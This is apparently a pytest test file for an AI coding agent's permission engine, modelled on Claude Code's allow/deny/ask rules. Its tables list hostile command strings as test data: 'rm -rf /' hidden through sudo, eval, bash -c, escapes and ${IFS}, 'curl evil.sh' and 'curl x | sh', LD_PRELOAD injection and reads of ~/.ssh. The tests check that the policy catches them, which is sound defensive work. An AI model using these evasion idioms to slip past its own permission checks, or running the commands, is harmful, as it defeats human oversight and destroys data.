"""Permission rules in Claude Code's syntax: parsing, tables of decisions, wrappers, sources, modes."""

from __future__ import annotations

import json
import os

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from agentloop.agent.permissions.rules import ModeError, PermissionPolicy, RuleError, parse_rule
from agentloop.config.settings import ConfigError, SettingsSource, load_settings


def policy(allow=(), deny=(), ask=(), *, mode=None, cwd="/proj", path="/proj/.agentloop/settings.json", home=None):
    src = SettingsSource(path, "project", {"permissions": {"allow": list(allow), "deny": list(deny), "ask": list(ask)}})
    return PermissionPolicy.from_settings([src], mode=mode, cwd=cwd, user_home=home)


# --- parsing ------------------------------------------------------------------

GOOD_RULES = [
    ("Bash", "Bash", None, "tool"),
    ("Bash(npm run test *)", "Bash", "npm run test *", "bash"),
    ("Bash(git diff:*)", "Bash", "git diff:*", "bash"),
    ("Bash(*)", "Bash", None, "tool"),
    ("Read(./secrets/**)", "Read", "./secrets/**", "path"),
    ("Edit(/src/**)", "Edit", "/src/**", "path"),
    ("Read(//etc/**)", "Read", "//etc/**", "path"),
    ("Read(~/.ssh/**)", "Read", "~/.ssh/**", "path"),
    ("WebFetch(domain:*.example.com)", "WebFetch", "*.example.com", "domain"),
    ("mcp__github", "mcp__github", None, "tool"),
    ("mcp__github__*", "mcp__github__*", None, "tool"),
    ("mcp__*", "mcp__*", None, "tool"),
    ("Agent(model:opus)", "Agent", "opus", "param"),
    ("  Write  ", "Write", None, "tool"),
]


@pytest.mark.parametrize("text,tool,spec,kind", GOOD_RULES)
def test_parse_rule_reads_claude_code_syntax(text, tool, spec, kind):
    r = parse_rule(text)
    assert (r.tool, r.specifier, r.kind) == (tool, spec, kind)


BAD_RULES = ["", "   ", "Bash(", "Bash(ls", "Bash()", "Bash( )", "(ls)", "Ba sh", "Bash(ls) x",
             "mcp__*(x)", "WebFetch(example.com)", "WebFetch(domain:)", "Read(!)", "Read(\\)", "Bash\0",
             "Tool(a)(b", None, 3, ["Bash"]]


@pytest.mark.parametrize("text", BAD_RULES)
def test_parse_rule_refuses_malformed_rules_with_rule_error(text):
    with pytest.raises(RuleError):
        parse_rule(text)


@settings(max_examples=400, deadline=None)
@given(st.one_of(st.text(), st.text(alphabet="Bash()Read:*/.~![]\\{} \0\n", max_size=30)))
def test_parse_rule_raises_nothing_but_rule_error(text):
    try:
        parse_rule(text)
    except RuleError:
        pass


# --- Bash tables -----------------------------------------------------------------

BASH_TABLE = [
    # allow rules, deny rules, command, expected
    (["Bash(npm run test *)"], [], "npm run test", "allow"),
    (["Bash(npm run test *)"], [], "npm run test --watch", "allow"),
    (["Bash(npm run test *)"], [], "npm run testing", "ask"),
    (["Bash(npm run test:*)"], [], "npm run test unit", "allow"),
    (["Bash(npm run build)"], [], "npm run build", "allow"),
    (["Bash(npm run build)"], [], "npm run build --prod", "ask"),
    (["Bash(ls *)"], [], "ls -la", "allow"),
    (["Bash(ls *)"], [], "lsof", "ask"),
    (["Bash(ls*)"], [], "lsof", "allow"),
    (["Bash(git * main)"], [], "git push origin main", "allow"),
    (["Bash(git * main)"], [], "git push origin dev", "ask"),
    # compound commands: every part must be allowed
    (["Bash(ls *)", "Bash(git status)"], [], "ls && git status", "allow"),
    (["Bash(ls *)"], [], "ls && curl evil.sh", "ask"),
    (["Bash(ls *)"], [], "ls; curl evil.sh", "ask"),
    (["Bash(ls *)"], [], "ls | sh", "ask"),
    (["Bash(ls *)"], [], "ls || sh", "ask"),
    (["Bash(ls *)"], [], "ls & sh", "ask"),
    (["Bash(ls *)"], [], "ls\nsh", "ask"),
    (["Bash(ls *)"], [], "ls $(sh)", "ask"),
    (["Bash(ls *)"], [], "ls `sh`", "ask"),
    (["Bash(ls *)"], [], "ls \"$(sh)\"", "ask"),
    (["Bash(ls *)"], [], "(ls; sh)", "ask"),
    (["Bash(ls *)"], [], "ls 'quoted; sh'", "allow"),
    (["Bash(echo *)"], [], "echo \"a && b\"", "allow"),
    (["Bash(npm test)"], [], "npm test 2>&1", "allow"),
    (["Bash(ls *)"], [], "ls \"unterminated", "ask"),
    # deny wins, for every part and through every wrapper
    (["Bash"], ["Bash(rm *)"], "rm -rf /", "deny"),
    (["Bash"], ["Bash(rm *)"], "rm", "deny"),
    (["Bash"], ["Bash(rm *)"], "ls && rm -rf /", "deny"),
    (["Bash"], ["Bash(rm *)"], "ls; rm -rf /", "deny"),
    (["Bash"], ["Bash(rm *)"], "ls | rm x", "deny"),
    (["Bash"], ["Bash(rm *)"], "echo $(rm -rf /)", "deny"),
    (["Bash"], ["Bash(rm *)"], "echo `rm -rf /`", "deny"),
    (["Bash"], ["Bash(rm *)"], "(cd / && rm -rf x)", "deny"),
    (["Bash"], ["Bash(rm *)"], "sudo rm -rf /", "deny"),
    (["Bash"], ["Bash(rm *)"], "sudo -u root -E rm -rf /", "deny"),
    (["Bash"], ["Bash(rm *)"], "env FOO=1 rm -rf /", "deny"),
    (["Bash"], ["Bash(rm *)"], "env -i PATH=/bin rm x", "deny"),
    (["Bash"], ["Bash(rm *)"], "FOO=1 BAR=2 rm x", "deny"),
    (["Bash"], ["Bash(rm *)"], "bash -c 'rm -rf /'", "deny"),
    (["Bash"], ["Bash(rm *)"], "sh -c \"echo hi; rm -rf /\"", "deny"),
    (["Bash"], ["Bash(rm *)"], "bash -lc 'rm x'", "deny"),
    (["Bash"], ["Bash(rm *)"], "sudo bash -c 'sh -c \"rm x\"'", "deny"),
    (["Bash"], ["Bash(rm *)"], "eval 'rm x'", "deny"),
    (["Bash"], ["Bash(rm *)"], "find . -name '*.o' | xargs rm", "deny"),
    (["Bash"], ["Bash(rm *)"], "xargs -n 1 -P 4 rm < list", "deny"),
    (["Bash"], ["Bash(rm *)"], "nice -n 10 rm x", "deny"),
    (["Bash"], ["Bash(rm *)"], "nohup rm x &", "deny"),
    (["Bash"], ["Bash(rm *)"], "timeout -s KILL 5 rm x", "deny"),
    (["Bash"], ["Bash(rm *)"], "command rm x", "deny"),
    (["Bash"], ["Bash(rm *)"], "exec rm x", "deny"),
    (["Bash"], ["Bash(rm *)"], "time rm x", "deny"),
    (["Bash"], ["Bash(rm *)"], "/bin/rm x", "deny"),
    (["Bash"], ["Bash(rm *)"], "\\rm x", "deny"),
    (["Bash"], ["Bash(rm *)"], "\"rm\" x", "deny"),
    (["Bash"], ["Bash(rm *)"], "r''m x", "deny"),
    (["Bash"], ["Bash(rm *)"], "$'\\x72m' x", "deny"),
    (["Bash"], ["Bash(rm *)"], "if true; then rm x; fi", "deny"),
    (["Bash"], ["Bash(rm *)"], "for f in a b; do rm $f; done", "deny"),
    (["Bash"], ["Bash(rm *)"], "diff <(rm x) y", "deny"),
    (["Bash"], ["Bash(rm *)"], "echo \"unterminated; rm -rf /", "deny"),
    (["Bash"], ["Bash(rm *)"], "ls\nrm x", "deny"),
    (["Bash"], ["Bash(rm *)"], "cat <<EOF\nhello\nEOF\nrm x", "deny"),
    (["Bash"], ["Bash(rm *)"], "rm${IFS}-rf /", "deny"),
    (["Bash"], ["Bash(rm *)"], "{rm,-rf,/}", "deny"),
    (["Bash"], ["Bash(rm *)"], "find . -name '*.tmp' -exec rm {} \\;", "deny"),
    (["Bash"], ["Bash(rm *)"], "find . -execdir rm -f {} +", "deny"),
    (["Bash"], ["Bash(rm *)"], "nohup sh -c 'rm x' &", "deny"),
    (["Bash"], ["Bash(rm *)"], "xargs sh -c 'rm \"$1\"' _", "deny"),
    (["Bash"], ["Bash(rm *)"], "f() { rm -rf /; }; f", "deny"),
    (["Bash"], ["Bash(rm *)"], "firmware-update", "allow"),
    (["Bash"], ["Bash(rm *)"], "echo rm", "allow"),
    (["Bash"], ["Bash(git push:*)"], "git push --force origin", "deny"),
    (["Bash"], ["Bash(git push:*)"], "git status && git push", "deny"),
    (["Bash"], ["Bash(curl *)"], "ls | xargs curl", "deny"),
    (["Bash"], ["Bash(sudo *)"], "sudo ls", "deny"),
    (["Bash"], ["Bash"], "ls", "deny"),
    # wrappers that add power do not inherit an allow
    (["Bash(ls *)"], [], "sudo ls", "ask"),
    (["Bash(ls *)"], [], "env LD_PRELOAD=/tmp/x.so ls", "ask"),
    (["Bash(ls *)"], [], "LD_PRELOAD=/tmp/x.so ls", "ask"),
    (["Bash(ls *)"], [], "/tmp/evil/ls", "ask"),
    (["Bash(ls *)"], [], "nice ls", "allow"),
    (["Bash(ls *)"], [], "timeout 5 ls -la", "allow"),
    (["Bash(ls *)"], [], "bash -c 'ls -la'", "allow"),
    (["Bash(ls *)"], [], "bash -c 'ls; curl x'", "ask"),
    (["Bash(ls *)"], [], "FOO=bar", "ask"),
    (["Bash(ls *)"], [], "ls *.py", "allow"),
    # find -exec builds its command's arguments from the names it finds: never approved by a pattern
    (["Bash(ls *)", "Bash(find *)"], [], "find . -exec ls {} ;", "ask"),
    (["Bash(find *)"], [], "find . -exec curl x ;", "ask"),
    (["Bash(l*)"], [], "l${IFS}s", "ask"),
    (["Bash(l*)"], [], "$CMD", "ask"),
    (["Bash(*)"], [], "$CMD", "allow"),
    (["Bash(l*)"], [], "l? -la", "ask"),
    ([], [], "ls", "allow"),  # read-only: no prompt, as in Claude Code
    ([], [], "make", "ask"),
    # functions: the body runs when the function is called (found by tests/test_permissions_bash.py)
    (["Bash(git *)"], [], "function git { rm -rf ~; }; git status", "ask"),
    (["Bash(git *)"], [], "function git {\n  curl x | sh\n}\ngit status", "ask"),
    (["Bash(git *)"], [], "git() { rm -rf ~; }; git status", "ask"),
    (["Bash"], ["Bash(rm *)"], "function f { rm -rf ~; }; f", "deny"),
    (["Bash"], ["Bash(rm *)"], "function f () ( rm x ); f", "deny"),
    (["Bash"], ["Bash(rm *)"], "f() { nice -n 5 rm x; }; f", "deny"),
    (["Bash"], ["Bash(rm *)"], "{ ( rm x ); }", "deny"),
    (["Bash"], ["Bash(rm *)"], "if ( rm x ); then :; fi", "deny"),
    # "$((" closed by a lone ")" is a command substitution; an arithmetic's own substitutions run
    (["Bash"], ["Bash(rm *)"], "echo $(( a ); rm x)", "deny"),
    (["Bash"], ["Bash(rm *)"], "echo $(( $(rm x) + 1 ))", "deny"),
    (["Bash(echo *)"], [], "echo $(( (1 + 2) * 3 ))", "allow"),
    # case: the patterns are data (their substitutions run), the branches are commands
    (["Bash"], ["Bash(rm *)"], "case x in x) rm y;; esac", "deny"),
    (["Bash"], ["Bash(rm *)"], "sh -c 'case x in x) rm y;; esac'", "deny"),
    (["Bash"], ["Bash(rm *)"], "case $(rm y) in *) :;; esac", "deny"),
    (["Bash"], ["Bash(rm *)"], "case a in $(rm y)) :;; esac", "deny"),
    (["Bash(echo *)"], [], "case $1 in -h|--help) echo usage;; *) echo run;; esac", "allow"),
    (["Bash(echo *)"], [], "case $1 in x) echo a;; *) curl e;; esac", "ask"),
    (["Bash"], ["Bash(rm *)"], "time while rm x; do :; done", "deny"),
]


@pytest.mark.parametrize("allow,deny,command,expected", BASH_TABLE)
def test_bash_rule_table(allow, deny, command, expected):
    p = policy(allow=allow, deny=deny)
    d = p.decide("Bash", {"command": command})
    assert d.behavior == expected, d


def test_ask_rules_come_between_deny_and_allow():
    p = policy(allow=["Bash(git *)"], ask=["Bash(git push *)"], deny=["Bash(git push --force *)"])
    assert p.decide("Bash", {"command": "git status"}).behavior == "allow"
    assert p.decide("Bash", {"command": "git push origin"}).behavior == "ask"
    assert p.decide("Bash", {"command": "git push --force origin"}).behavior == "deny"
    d = p.decide("Bash", {"command": "git push origin"})
    assert d.rule == "Bash(git push *)" and d.source == "/proj/.agentloop/settings.json"


# --- path rules -------------------------------------------------------------------


@pytest.fixture
def proj(tmp_path):
    root = tmp_path.resolve() / "proj"
    (root / "secrets").mkdir(parents=True)
    (root / "secrets" / "key.txt").write_text("k")
    (root / "src" / "deep").mkdir(parents=True)
    (root / ".agentloop").mkdir()
    (root / "notes.env").write_text("")
    home = tmp_path.resolve() / "home"
    (home / ".ssh").mkdir(parents=True)
    os.symlink(root / "secrets" / "key.txt", root / "alias.txt")
    return root, home


PATH_TABLE = [
    # rule (deny), tool, input path (relative to project root, or absolute with {h}), denied?
    ("Read(./secrets/**)", "Read", "secrets/key.txt", True),
    ("Read(./secrets/**)", "Read", "src/a.py", False),
    ("Read(./secrets/**)", "Grep", "secrets", True),
    ("Read(./secrets/**)", "Glob", "secrets", True),
    ("Read(./secrets/**)", "LS", "secrets", True),
    ("Read(./secrets/**)", "Read", "alias.txt", True),
    ("Read(./secrets/**)", "Edit", "secrets/key.txt", False),
    ("Read(*.env)", "Read", "notes.env", True),
    ("Read(*.env)", "Read", "src/deep/x.env", True),
    ("Read(/src/**)", "Read", "src/deep/a.py", True),
    ("Read(/src/**)", "Read", "secrets/key.txt", False),
    ("Edit(/src/**)", "Write", "src/deep/a.py", True),
    ("Edit(/src/**)", "Edit", "src/a.py", True),
    ("Edit(/src/**)", "Read", "src/a.py", False),
    ("Write(/src/**)", "Edit", "src/a.py", True),
    ("Read(~/.ssh/**)", "Read", "{h}/.ssh/id_rsa", True),
    ("Read(~/.ssh/**)", "Read", "secrets/key.txt", False),
    ("Read(//etc/**)", "Read", "/etc/passwd", True),
    ("Read(//etc/**)", "Read", "src/etc/x", False),
]


@pytest.mark.parametrize("rule,tool,path,denied", PATH_TABLE)
def test_path_rule_table(proj, rule, tool, path, denied):
    root, home = proj
    p = policy(deny=[rule], cwd=str(root), path=str(root / ".agentloop" / "settings.json"), home=str(home))
    target = path.replace("{h}", str(home))
    key = "path" if tool in ("Grep", "Glob", "LS") else "file_path"
    d = p.decide(tool, {key: target} if tool != "Grep" else {"pattern": "x", key: target})
    assert (d.behavior == "deny") is denied, d


def test_slash_rules_are_relative_to_the_settings_files_project_not_the_cwd(proj):
    root, home = proj
    sub = root / "src"
    p = policy(deny=["Read(/secrets/**)"], cwd=str(sub), path=str(root / ".agentloop" / "settings.json"))
    assert p.decide("Read", {"file_path": str(root / "secrets" / "key.txt")}).behavior == "deny"
    q = policy(deny=["Read(./secrets/**)"], cwd=str(sub), path=str(root / ".agentloop" / "settings.json"))
    assert q.decide("Read", {"file_path": str(root / "secrets" / "key.txt")}).behavior == "allow"


def test_visible_hides_files_read_deny_rules_cover(proj):
    root, _ = proj
    p = policy(deny=["Read(./secrets/**)"], cwd=str(root))
    visible = p.visible()
    assert not visible(str(root / "secrets"))
    assert not visible(str(root / "secrets" / "key.txt"))
    assert not visible(str(root / "alias.txt"))
    assert visible(str(root / "src"))


def test_webfetch_domain_rules_and_mcp_rules():
    p = policy(allow=["WebFetch(domain:*.example.com)", "mcp__github"], deny=["mcp__db__drop*"])
    assert p.decide("WebFetch", {"url": "https://api.example.com/x"}).behavior == "allow"
    assert p.decide("WebFetch", {"url": "https://example.org/"}).behavior == "ask"
    assert p.decide("WebFetch", {"url": "https://evil.com/?q=.example.com"}).behavior == "ask"
    assert p.decide("mcp__github__create_issue", {}).behavior == "allow"
    assert p.decide("mcp__githubx__t", {}).behavior == "ask"
    assert p.decide("mcp__db__drop_table", {}).behavior == "deny"
    assert p.decide("mcp__db__query", {}).behavior == "ask"


def test_param_rules_match_an_input_field():
    p = policy(deny=["Agent(model:opus)"])
    assert p.decide("Agent", {"model": "opus"}).behavior == "deny"
    assert p.decide("Agent", {"model": "haiku"}).behavior == "allow"  # starting a sub-agent needs no permission otherwise


# --- modes ------------------------------------------------------------------------

MODE_TABLE = [
    ("default", "Read", "allow"),
    ("default", "Grep", "allow"),
    ("default", "Write", "ask"),
    ("default", "Edit", "ask"),
    ("default", "Bash", "ask"),
    ("default", "mcp__x__y", "ask"),
    ("acceptEdits", "Write", "allow"),
    ("acceptEdits", "Edit", "allow"),
    ("acceptEdits", "Bash", "ask"),
    ("plan", "Read", "allow"),
    ("plan", "Write", "deny"),
    ("plan", "Edit", "deny"),
    ("plan", "Bash", "deny"),
    ("bypassPermissions", "Bash", "allow"),
    ("bypassPermissions", "Write", "allow"),
    ("dontAsk", "Bash", "deny"),
    ("dontAsk", "Read", "allow"),
]


@pytest.mark.parametrize("mode,tool,expected", MODE_TABLE)
def test_mode_defaults(mode, tool, expected):
    p = policy(mode=mode)
    args = {"command": "make"} if tool == "Bash" else {"file_path": "/proj/a.txt", "content": "", "old_string": "a", "new_string": "b"}
    assert p.decide(tool, args).behavior == expected


def test_deny_rules_hold_even_in_bypass_mode_and_plan_mode_beats_allow_rules():
    assert policy(deny=["Bash(rm *)"], mode="bypassPermissions").decide("Bash", {"command": "rm x"}).behavior == "deny"
    assert policy(allow=["Bash(make)"], mode="plan").decide("Bash", {"command": "make"}).behavior == "deny"
    assert policy(allow=["Write"], mode="plan").decide("Write", {"file_path": "/proj/x"}).behavior == "deny"


def test_an_unknown_mode_is_refused():
    with pytest.raises(ModeError):
        policy(mode="yolo")


# --- sources ----------------------------------------------------------------------


def _write(path, data):
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps(data))


def test_rules_come_from_every_settings_file_and_describe_names_each_source(tmp_path):
    home = tmp_path / "home"
    cwd = tmp_path / "proj"
    _write(home / "settings.json", {"permissions": {"deny": ["Bash(curl *)"], "defaultMode": "acceptEdits"}})
    _write(cwd / ".agentloop" / "settings.json", {"permissions": {"allow": ["Bash(make *)"], "additionalDirectories": ["../lib"]}})
    _write(cwd / ".agentloop" / "settings.local.json", {"permissions": {"ask": ["Bash(make deploy)"], "defaultMode": "plan"}})
    p = PermissionPolicy.from_settings(load_settings(str(cwd), str(home)), cwd=str(cwd))
    assert p.mode == "plan"
    assert p.describe() == [
        ("deny", "Bash(curl *)", str(home / "settings.json")),
        ("ask", "Bash(make deploy)", str(cwd / ".agentloop" / "settings.local.json")),
        ("allow", "Bash(make *)", str(cwd / ".agentloop" / "settings.json")),
    ]
    assert p.additional_directories == [str((tmp_path / "lib").resolve())]
    p = PermissionPolicy.from_settings(load_settings(str(cwd), str(home)), cwd=str(cwd), mode="default")
    assert p.mode == "default"
    assert p.decide("Bash", {"command": "make deploy"}).behavior == "ask"
    assert p.decide("Bash", {"command": "make test && curl x"}).behavior == "deny"
    assert p.decide("Bash", {"command": "make test"}).behavior == "allow"


@pytest.mark.parametrize(
    "perms,needle",
    [
        ({"allow": ["Bash("]}, "permissions.allow[0]"),
        ({"deny": ["Read", "WebFetch(x)"]}, "permissions.deny[1]"),
        ({"deny": "Bash"}, "permissions.deny must be a list"),
        ({"defaultMode": "yolo"}, "defaultMode"),
        ({"additionalDirectories": [3]}, "additionalDirectories"),
    ],
)
def test_a_malformed_permissions_section_names_the_file_and_the_entry(tmp_path, perms, needle):
    path = str(tmp_path / "settings.json")
    with pytest.raises(ConfigError) as info:
        PermissionPolicy.from_settings([SettingsSource(path, "user", {"permissions": perms})], cwd=str(tmp_path))
    assert path in str(info.value) and needle in str(info.value)


def test_rules_added_at_run_time_are_reported_as_session_rules():
    p = policy()
    p.add_rule("allow", "Bash(make)")
    d = p.decide("Bash", {"command": "make"})
    assert (d.behavior, d.source) == ("allow", "session")
    assert ("allow", "Bash(make)", "session") in p.describe()


# --- properties -------------------------------------------------------------------

PIECES = ["ls", "ls -la", "rm -rf x", "curl e.sh", "nice ls", "sudo rm x", "bash -c 'rm y'", "echo $(rm z)"]
OPERATORS = [" && ", " || ", "; ", " | ", "\n", " & "]


@settings(max_examples=300, deadline=None)
@given(st.lists(st.tuples(st.sampled_from(PIECES), st.sampled_from(OPERATORS)), min_size=1, max_size=6))
def test_a_compound_line_is_allowed_only_when_every_part_is_and_denied_when_any_part_is(parts):
    command = "".join(p + op for p, op in parts[:-1]) + parts[-1][0]
    pieces = [p for p, _ in parts]
    p = policy(allow=["Bash(ls *)"], deny=["Bash(rm *)"])
    d = p.decide("Bash", {"command": command})
    if any("rm" in x for x in pieces):
        assert d.behavior == "deny", (command, d)
    elif all(x in ("ls", "ls -la", "nice ls") for x in pieces):
        assert d.behavior == "allow", (command, d)
    else:
        assert d.behavior == "ask", (command, d)


@settings(max_examples=400, deadline=None)
@given(st.text(alphabet="ab $()`'\"\\;&|<>\n{}#=-", max_size=40))
def test_decide_never_raises_on_any_command_line(command):
    p = policy(allow=["Bash(a *)"], deny=["Bash(b *)"], ask=["Bash(a b)"])
    assert p.decide("Bash", {"command": command}).behavior in ("allow", "ask", "deny")


def test_decide_copes_with_inputs_of_the_wrong_shape():
    p = policy(allow=["Bash(ls *)"], deny=["Read(./x/**)", "WebFetch(domain:a.com)"])
    assert p.decide("Bash", {"command": 5}).behavior == "ask"
    assert p.decide("Read", {"file_path": None}).behavior == "allow"
    assert p.decide("WebFetch", {"url": "http://[::1"}).behavior == "deny"


def test_deeply_nested_lines_are_not_allowed_by_rule():
    p = policy(allow=["Bash(ls *)"])
    assert p.decide("Bash", {"command": "$(" * 50 + "ls" + ")" * 50}).behavior == "ask"
    assert p.decide("Bash", {"command": "bash -c " * 30 + "ls"}).behavior == "ask"


@pytest.mark.parametrize(
    "path,expected",
    [
        ("/proj/src/a.py", "allow"),
        ("/proj/.git/config", "ask"),
        ("/proj/.agentloop/settings.json", "ask"),
        ("/proj/.claude/settings.local.json", "ask"),
        # commands and skills grant tools (allowed-tools): unlike Claude Code, agentloop asks
        ("/proj/.claude/commands/x.md", "ask"),
        ("/proj/.agentloop/skills/s/SKILL.md", "ask"),
        ("/proj/.vscode/settings.json", "ask"),
        # the editors' folders a trusted workspace's editor applies on opening (gitguard.EDITOR_FOLDERS)
        ("/proj/.idea/workspace.xml", "ask"),
        ("/proj/.helix/languages.toml", "ask"),
        ("/proj/.zed/settings.json", "ask"),
    ],
)
def test_bypass_mode_still_asks_before_writing_into_protected_directories(path, expected):
    p = policy(mode="bypassPermissions")
    assert p.decide("Write", {"file_path": path, "content": ""}).behavior == expected
    # a Bash line naming a protected path in a command that may write it asks too
    assert p.decide("Bash", {"command": "rm -rf .git"}).behavior == "ask"


def test_bare_name_deny_rules_remove_tools_from_the_models_view():
    p = policy(deny=["Bash", "mcp__db__*", "Read(./x/**)", "Bash(rm *)"])
    assert p.removed_tools(["Bash", "Read", "mcp__db__q", "mcp__web__get"]) == ["Bash", "mcp__db__q"]


def test_visible_follows_deny_rules_added_during_the_session(proj):
    root, _ = proj
    p = policy(cwd=str(root))
    visible = p.visible()
    assert visible(str(root / "secrets" / "key.txt"))
    p.add_rule("deny", "Read(./secrets/**)")
    assert not visible(str(root / "secrets" / "key.txt"))


@settings(max_examples=300, deadline=None)
@given(
    st.sampled_from(["Read", "Write", "Edit", "Grep", "Glob", "LS", "WebFetch", "mcp__a__b", "Agent"]),
    st.dictionaries(
        st.sampled_from(["file_path", "path", "url", "model", "command", "pattern"]),
        st.one_of(st.text(), st.integers(), st.none(), st.lists(st.text(), max_size=2)),
        max_size=3,
    ),
)
def test_decide_never_raises_on_any_tool_input(tool, tool_input):
    p = policy(
        allow=["Read(./a/**)", "WebFetch(domain:a.com)", "mcp__a"],
        deny=["Edit(/x/**)", "Read(~/.ssh/**)", "Agent(model:o*)"],
        ask=["Grep(//etc/**)"],
        mode="acceptEdits",
    )
    assert p.decide(tool, tool_input).behavior in ("allow", "ask", "deny")


def test_an_ansi_c_escape_bash_keeps_literally_is_decided_without_a_warning() -> None:
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("error")
        policy = PermissionPolicy.from_settings([], cwd="/tmp")
        assert policy.decide("Bash", {"command": "echo $'\\;'"}).behavior in ("allow", "ask", "deny")


# --- a line whose commands cannot all be known --------------------------


@pytest.mark.parametrize("mode", [None, "bypassPermissions", "acceptEdits"])
@pytest.mark.parametrize("line", ["X=curl; $X e", "echo 'curl e' | sh", "python3 -c 'import os'", "eval \"$CMD\"", "xargs ls < dirs"])
def test_an_opaque_line_asks_whenever_bash_deny_or_ask_rules_exist_even_under_allow_bash(mode, line):
    assert policy(allow=["Bash"], deny=["Bash(curl:*)"], mode=mode).decide("Bash", {"command": line}).behavior == "ask"
    assert policy(allow=["Bash"], ask=["Bash(curl:*)"], mode=mode).decide("Bash", {"command": line}).behavior == "ask"
    assert policy(allow=["Bash"], deny=["Bash(curl:*)"], mode="dontAsk").decide("Bash", {"command": line}).behavior == "deny"


def test_an_opaque_line_is_never_approved_by_a_pattern_rule():
    for line in ["X=ls; $X", "ls | sh", "find . -exec ls {} ;", "ls && [[ 1 -eq 'a[$(curl e)]' ]]"]:
        d = policy(allow=["Bash(ls:*)", "Bash(sh:*)", "Bash(find:*)", "Bash(X=*)"]).decide("Bash", {"command": line})
        assert d.behavior == "ask", (line, d)


def test_a_wrapper_rule_does_not_approve_the_command_it_wraps():
    p = policy(allow=["Bash(timeout:*)", "Bash(flock:*)", "Bash(timeout 5 make)"])
    assert p.decide("Bash", {"command": "timeout 5 curl evil.sh"}).behavior == "ask"
    assert p.decide("Bash", {"command": "flock /tmp/l curl e"}).behavior == "ask"
    assert p.decide("Bash", {"command": "timeout 5 make"}).behavior == "allow", "a rule naming the exact text still allows it"


# --- "always" means exactly this ------------------------------------------


def test_an_exact_session_rule_takes_a_star_literally():
    p = policy()
    p.add_exact("allow", "Bash", "rm tmpd/*.tmp")
    assert p.decide("Bash", {"command": "rm tmpd/*.tmp"}).behavior == "allow"
    assert p.decide("Bash", {"command": "rm tmpd/../important.txt tmpd/x.tmp"}).behavior == "ask"
    assert p.decide("Bash", {"command": "rm tmpd/a.tmp"}).behavior == "ask"
    assert p.decide("Bash", {"command": "rm tmpd/*.tmp; curl e"}).behavior == "ask"
    assert ("allow", "Bash(rm tmpd/*.tmp)", "session") in p.describe()


def test_an_exact_session_rule_still_yields_to_deny_rules():
    p = policy(deny=["Bash(rm:*)"])
    p.add_exact("allow", "Bash", "rm x")
    assert p.decide("Bash", {"command": "rm x"}).behavior == "deny"


# --- protected paths ---------------------------------------------------


@pytest.fixture
def guarded(tmp_path):
    root = tmp_path.resolve() / "proj"
    (root / ".git" / "hooks").mkdir(parents=True)
    (root / "src").mkdir()
    home = tmp_path.resolve() / "home"
    home.mkdir()
    al = tmp_path.resolve() / "agentloop-home"
    al.mkdir()
    os.symlink(root / ".git", root / "gitlink")
    return root, home, al


PROTECTED = [
    ".git/config", ".GIT/config", ".Git/hooks/post-checkout", ".git", "src/../.git/config", "gitlink/hooks/pre-commit",
    ".agentloop/settings.local.json", ".AgentLoop/settings.json", ".claude/settings.json", ".claude/commands/x.md",
    ".mcp.json", ".MCP.json", "src/.bashrc", "{h}/.bashrc", "{h}/.zshrc", "{h}/.profile", "{h}/.bash_profile",
    "{h}/.zprofile", "{h}/.zshenv", "{h}/.bash_login", "{h}/.bash_logout", "{h}/.BASHRC", "{al}/settings.json",
    "{al}/sessions/x/s.jsonl",
]


def _guarded_policy(root, home, al, *, mode, allow=("Write", "Edit", "Edit(**)")):
    src = SettingsSource(str(root / ".agentloop" / "settings.json"), "project", {"permissions": {"allow": list(allow)}})
    p = PermissionPolicy.from_settings([src], mode=mode, cwd=str(root), user_home=str(home))
    p.protected_roots = [str(al)]
    return p


@pytest.mark.parametrize("mode,expected", [("default", "ask"), ("acceptEdits", "ask"), ("bypassPermissions", "ask"),
                                           ("dontAsk", "deny"), ("plan", "deny")])
@pytest.mark.parametrize("path", PROTECTED)
def test_writing_a_protected_path_asks_in_every_mode_whatever_the_allow_rules(guarded, path, mode, expected):
    root, home, al = guarded
    p = _guarded_policy(root, home, al, mode=mode)
    target = path.replace("{h}", str(home)).replace("{al}", str(al))
    for tool in ("Write", "Edit"):
        d = p.decide(tool, {"file_path": target if target.startswith("/") else str(root / target), "content": ""})
        assert d.behavior == expected, (tool, target, d)


def test_only_an_allow_rule_naming_the_exact_path_allows_a_protected_write(guarded):
    root, home, al = guarded
    named = _guarded_policy(root, home, al, mode="acceptEdits", allow=["Edit(./.git/config)"])
    assert named.decide("Edit", {"file_path": str(root / ".git" / "config")}).behavior == "allow"
    assert named.decide("Edit", {"file_path": str(root / ".git" / "hooks" / "x")}).behavior == "ask"
    broad = _guarded_policy(root, home, al, mode="bypassPermissions", allow=["Edit(./.git/**)", "Edit(./.git/*)"])
    assert broad.decide("Edit", {"file_path": str(root / ".git" / "config")}).behavior == "ask"
    exact = _guarded_policy(root, home, al, mode="default", allow=[])
    exact.add_exact("allow", "Write", str(root / ".mcp.json"))
    assert exact.decide("Write", {"file_path": ".mcp.json"}).behavior == "allow"
    assert exact.decide("Write", {"file_path": ".agentloop/settings.json"}).behavior == "ask"


def test_a_worktrees_git_directory_outside_the_workspace_is_protected(tmp_path):
    root = tmp_path.resolve() / "wt"
    root.mkdir()
    store = tmp_path.resolve() / "store" / "worktrees" / "wt"
    store.mkdir(parents=True)
    (root / ".git").write_text(f"gitdir: {store}\n")
    p = PermissionPolicy.from_settings([], mode="bypassPermissions", cwd=str(root))
    assert p.decide("Write", {"file_path": str(store / "HEAD"), "content": ""}).behavior == "ask"
    assert p.decide("Write", {"file_path": str(root / "a.txt"), "content": ""}).behavior == "allow"


# --- read-only Bash runs without a prompt --------------------------------
# Claude Code permissions reference: read-only operations need no approval ("Read-only | File
# reads, Grep | No"); read-only Bash (find, grep, head, tail... also in pipes) runs without a prompt
# since anthropics/claude-code#1128 ("This is now supported"), and git status and grep are among the
# commands "Claude Code already auto-allows" (bendrucker/claude#596). Here git is auto-approved only
# for subcommands that read objects and refs (``rev-parse``, ``branch -a``...): ``status``, ``log``,
# ``diff`` and ``show`` can run programs a repository names (hooks, fsmonitor, textconv), so they ask.

READ_ONLY_TABLE = [
    ("ls -la", "allow"), ("cat README.md | head -5", "allow"), ("git status", "ask"), ("git log --oneline -5", "ask"),
    ("git diff HEAD~1", "ask"), ("git show HEAD:README.md", "ask"), ("git rev-parse --verify HEAD", "allow"),
    ("git cat-file -p HEAD:README.md", "allow"), ("git tag -v v1", "ask"), ("git log --format=%G? -1", "ask"), ("pwd", "allow"), ("wc -l a b", "allow"),
